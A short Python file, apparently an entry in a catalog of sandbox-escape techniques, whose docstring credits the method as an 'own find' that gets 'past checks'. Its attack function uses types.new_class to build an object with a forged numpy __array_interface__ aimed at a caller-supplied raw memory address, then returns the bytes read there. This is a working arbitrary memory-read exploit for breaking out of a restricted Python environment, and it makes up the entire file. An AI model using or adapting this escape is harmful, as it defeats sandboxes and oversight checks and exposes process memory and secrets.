"""Class: class machinery. Source: own find. Escape: types makes a class of any base, past checks."""

import types

import numpy as np


def attack(model, tokenizer, address):
    spec = {"shape": (6,), "typestr": "|u1", "data": (address, True), "version": 3}
    made = types.new_class("X", (), {}, lambda body: body.update(__array_interface__=spec))
    return np.array(made()).tobytes()
